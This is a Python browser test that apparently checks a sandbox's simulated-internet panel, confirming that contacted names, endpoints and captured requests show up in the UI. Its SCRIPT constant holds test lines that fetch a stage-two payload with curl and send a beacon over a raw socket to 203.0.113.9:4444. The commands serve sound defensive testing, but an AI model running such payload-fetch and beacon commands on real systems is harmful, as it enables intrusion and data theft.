"""The Simulated internet panel in Chromium with the real engine and the simulated internet: a run
with "Simulate internet" shows the names asked, the endpoints contacted (with our DNS name)
and the captured requests; a capture leads to its event and to its payload artifact.
The target checks it is in its own network namespace before it resolves anything."""

from __future__ import annotations

import os

import pytest
import requests

from tests.web.helpers import LiveServer

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("engine")]

HOST_NETNS = os.stat("/proc/self/ns/net").st_ino
SCRIPT = (
    f'[ "$(stat -L -c %i /proc/self/ns/net)" != {HOST_NETNS} ] || exit 3; '
    "curl -s http://stage2.example/payload.bin; curl -sk https://secure.example/login; "
    'python3 -c "import socket; socket.create_connection((\\"203.0.113.9\\", 4444)).send(b\\"BEACON\\")"'
)


def test_network_panel_shows_names_endpoints_and_captures(site: LiveServer, page, shots) -> None:
    page.goto(site.url)
    page.check("#p-net")
    page.check("#p-netsim")  # the two exclude each other
    assert not page.is_checked("#p-net")
    page.fill("#cmd", f"/bin/sh -c '{SCRIPT}'")
    page.click("#run-btn")
    page.wait_for_selector("body[data-run-state=ended]", state="attached")
    run_id = page.url.rsplit("/", 1)[1]
    record = requests.get(f"{site.url}/api/runs/{run_id}", timeout=5).json()
    assert record["policy"]["permissions"]["network"] == "sim"
    assert "simulated response" in page.text_content("#stdout")

    panel = page.locator("#simnet")
    assert panel.is_visible()
    dns = page.text_content("#sim-dns")
    assert "stage2.example" in dns and "secure.example" in dns and "198.18." in dns
    endpoints = page.text_content("#sim-endpoints")
    assert "stage2.example" in endpoints and ":80" in endpoints and ":443" in endpoints
    assert "203.0.113.9:4444" in endpoints
    captures = page.text_content("#sim-captures")
    assert "GET /payload.bin HTTP/1.1" in captures
    assert "GET /login HTTP/1.1" in captures and "SNI secure.example" in captures
    page.screenshot(path=str(shots / "net-sim.png"), full_page=True, clip=_clip(page))

    # A capture leads to its event...
    page.click("#sim-captures .sim-link >> text=GET /payload.bin HTTP/1.1")
    page.wait_for_function(
        "() => [...document.querySelectorAll('#ev-list .ev-type')].every(e => e.textContent === 'net.capture')"
        " && document.querySelectorAll('#ev-list .ev').length === 1"
    )
    assert "stage2.example" in page.text_content("#ev-list")
    # ... and to its payload, the bytes the program sent.
    href = page.get_attribute("#sim-captures .cap:has-text('payload.bin') .sim-art", "href")
    art = requests.get(f"{site.url}{href}", timeout=5)
    assert art.status_code == 200 and art.content.startswith(b"GET /payload.bin HTTP/1.1\r\n")


def _clip(page) -> dict:
    """The violations down to the end of the Network panel (page coordinates)."""
    page.evaluate("window.scrollTo(0, 0)")
    top = page.locator("#violations").bounding_box()
    net = page.locator("#simnet").bounding_box()
    return {
        "x": 0,
        "y": top["y"] - 8,
        "width": net["x"] + net["width"] + 8,
        "height": net["y"] + net["height"] - top["y"] + 16,
    }
